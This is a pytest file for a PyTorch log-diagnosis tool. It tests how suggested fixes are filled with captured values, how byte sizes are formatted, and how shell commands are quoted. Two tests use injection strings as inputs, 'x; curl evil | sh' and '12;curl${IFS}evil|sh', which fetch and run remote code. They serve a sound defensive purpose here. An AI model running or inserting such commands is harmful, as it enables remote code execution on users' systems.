"""Fixes with the values of the message in them."""

from __future__ import annotations

import pytest

from torchdoctor.engine.factbook import FactBook, TextFacts
from torchdoctor.engine.finding import Occurrence
from torchdoctor.engine.wording import filled, size
from torchdoctor.model import Event, EventKind, Fact, FactValue, Fix, Transcript


def fill(fix: Fix, **captures: FactValue) -> Fix | None:
    event = Event(0, EventKind.LOG, "text", "log", 1, 1)
    facts = {f"match.{name}": Fact.known(f"match.{name}", value) for name, value in captures.items()}
    occurrence = Occurrence(event, facts, "text", 0, 4, 4)
    known = TextFacts(Transcript(("log",), (event,)), FactBook())
    return filled(fix, lambda name: known.fact(name, event, occurrence.captures), frozenset({"match.want"}))


def test_values_are_put_in_and_bytes_become_readable() -> None:
    fix = fill(Fix("Ask for less than {match.want} on GPU {match.gpu}."), want=36 * 1024**3, gpu=3)
    assert fix is not None
    assert fix.do == "Ask for less than 36.00 GiB on GPU 3."


def test_a_fix_with_an_unknown_value_is_left_out() -> None:
    assert fill(Fix("Set it to {match.label}.")) is None


def test_other_braces_stay() -> None:
    fix = Fix("Use ${HOME}, {name} and {'a': 1}", "awk '{print $1}'")
    assert fill(fix) == fix


def test_text_of_a_log_cannot_break_out_of_a_command() -> None:
    fix = fill(Fix("Remove it", "rm {match.path}"), path="x; curl evil | sh")
    assert fix is not None
    assert fix.run == "rm 'x; curl evil | sh'"


@pytest.mark.parametrize(
    "run",
    [
        "A='-ccbin g++-{match.newest}' pip install .",
        'A="g++-{match.newest}" pip install .',
        "a '\\' 'g++-{match.newest}'",
    ],
)
def test_nor_out_of_the_quotes_of_a_command(run: str) -> None:
    hostile = fill(Fix("Build with gcc {match.newest}", run), newest="12;curl${IFS}evil|sh")
    assert hostile == Fix("Build with gcc 12;curl${IFS}evil|sh", None)
    harmless = fill(Fix("Build with gcc {match.newest}", run), newest="12")
    assert harmless is not None
    assert harmless.run == run.replace("{match.newest}", "12")


def test_quotes_that_are_closed_or_escaped_do_not_count() -> None:
    fix = fill(Fix("Remove it", "echo 'a' \"b\" \\' && rm {match.path}"), path="a b")
    assert fix is not None
    assert fix.run == "echo 'a' \"b\" \\' && rm 'a b'"


@pytest.mark.parametrize(
    ("value", "text"),
    [(12, "12 B"), (20 << 20, "20.00 MiB"), (3 << 40, "3.00 TiB"), (1 << 62, "4096.00 PiB")],
)
def test_sizes(value: int, text: str) -> None:
    assert size(value) == text
